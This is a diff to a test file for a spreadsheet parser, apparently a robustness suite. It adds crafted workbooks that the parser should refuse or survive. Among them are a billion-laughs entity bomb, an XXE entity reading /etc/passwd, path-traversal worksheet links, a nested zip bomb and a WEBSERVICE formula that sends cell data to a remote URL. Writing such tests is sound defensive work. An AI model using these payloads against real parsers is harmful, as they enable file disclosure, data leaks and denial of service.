@@ -13,6 +13,8 @@ LAUGHS = "".join(
     f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
 )
 DOCTYPE = f"<!DOCTYPE x [{LAUGHS}]>"
+ELSEWHERE = '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">'
+TEXT = books.links(("officeDocument", "word/document.xml"))
 OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
 EVERYWHERE = "A1:XFD1048576"
 
@@ -43,6 +45,22 @@ def varied(name, start, form, times, end=""):
     block = "".join(form.format(n=n, r=n * 2654435761 % 2**32) for n in range(1, 10_001))
     content[name] = (start + block * (times // 10_000) + end).encode()
     return books.zipped(content)
+
+
+def leading_to(*targets):
+    """Return a workbook whose worksheets are said to be elsewhere."""
+    relations = books.links(*(("worksheet", target) for target in targets))
+    return parts(**{"book/_rels/main.xml.rels": relations})
+
+
+def formula(text):
+    return cells(f'<row r="3"><c r="A3"><f>{text}</f><v>1</v></c></row>')
+
+
+def shown_as(code):
+    """Return a small workbook with a number format of its own."""
+    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
+    return small(sheet(ROW), styles=f'{formats}<cellXfs><xf numFmtId="200"/></cellXfs>')
 
 
 def cells(rows="", before="", after=""):
@@ -161,6 +179,31 @@ REFUSED = {
         lambda: books.zipped(books.unzipped(cells()) | {"/etc/passwd": "x"}),
         "'/etc/passwd'",
     ),
+    "a document type from elsewhere": (
+        lambda: worksheet(ELSEWHERE + sheet(ROW).partition("?>")[2]),
+        "book/one.xml: ",
+    ),
+    "an encoding with a very long name": (
+        lambda: worksheet(f'<?xml version="1.0" encoding="{"a" * 40_000}"?><x/>'),
+        "book/one.xml: ",
+    ),
+    "a worksheet that is a file of this machine": (
+        lambda: leading_to("/etc/passwd", "../../../../etc/passwd", "file:///etc/passwd"),
+        "the workbook: ",
+    ),
+    "a worksheet from the net": (
+        lambda: leading_to("http://127.0.0.1:9/one.xml"),
+        "the workbook: ",
+    ),
+    "nothing at all": (lambda: b"", "the file: "),
+    "a page that calls itself a workbook": (
+        lambda: b"<html><table><tr><td>1</td></tr></table></html>",
+        "the file: ",
+    ),
+    "a document of another program": (
+        lambda: books.zipped({"_rels/.rels": TEXT, "word/document.xml": "<document/>"}),
+        "the file: ",
+    ),
     "half a file": (lambda: cells()[:500], "the file: "),
     "no zip": (lambda: b"PK\3\4" + bytes(5000), "the file: "),
 }
@@ -185,6 +228,28 @@ HARMLESS = {
     "brackets in brackets": lambda: cells(
         f'<row r="3"><c r="A3"><f>{"(" * 4000}B2{")" * 4000}</f><v>7</v></c></row>'
     ),
+    "brackets that never close": lambda: formula("[" * 900_000),
+    "quotes that never close": lambda: formula("'" * 900_000),
+    "a hundred thousand cells in a formula": lambda: formula(
+        "+".join(f"A{n}" for n in range(1, 100_000))
+    ),
+    "a number format of brackets": lambda: shown_as("[" * 450_000 + "d" * 450_000),
+    "a million elements in elements": lambda: cells(
+        '<row r="5">' + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</row>"
+    ),
+    "rows in rows": lambda: cells(
+        f'<row r="5"><row r="6"><c r="A6"/></row></row>{"<row/>" * 9}'
+    ),
+    "texts in texts": lambda: small(
+        sheet(ROW), strings="<si><t>a</t><si><r><t>b</t></r></si></si>" * 9_000
+    ),
+    "a prefix of nothing": lambda: cells('<row r="5"><c r="A5" x:y="1"/></row>'),
+    "a zip file in a zip file": lambda: parts(
+        **{"x/bomb.zip": books.zipped({"a.zip": books.zipped({"b": bytes(9_000_000)})})}
+    ),
+    "parts of types they are not": lambda: parts(
+        **{"[Content_Types].xml": "<Types", "book/x.png": "<no/>"}
+    ),
     "elements in elements": lambda: cells(after="<a>" * 100_000 + "</a>" * 100_000),
     "a hundred thousand merges": lambda: cells(
         after="<mergeCells>"
@@ -193,6 +258,10 @@ HARMLESS = {
     ),
     "a formula that looks at a file": lambda: cells(
         '<row r="3"><c r="A3"><f>WEBSERVICE("http://x/"&amp;B2)+\'[1]S\'!A1</f><v>1</v></c></row>'
+    ),
+    "days past all days": lambda: small(
+        sheet(f'{ROW}<row r="3"><c r="A3" s="1"><v>1e999</v></c></row>'),
+        styles='<cellXfs><xf/><xf numFmtId="14"/></cellXfs>',
     ),
     "numbers past all numbers": lambda: cells(
         '<row r="3"><c r="A3"><v>1e999</v></c>'
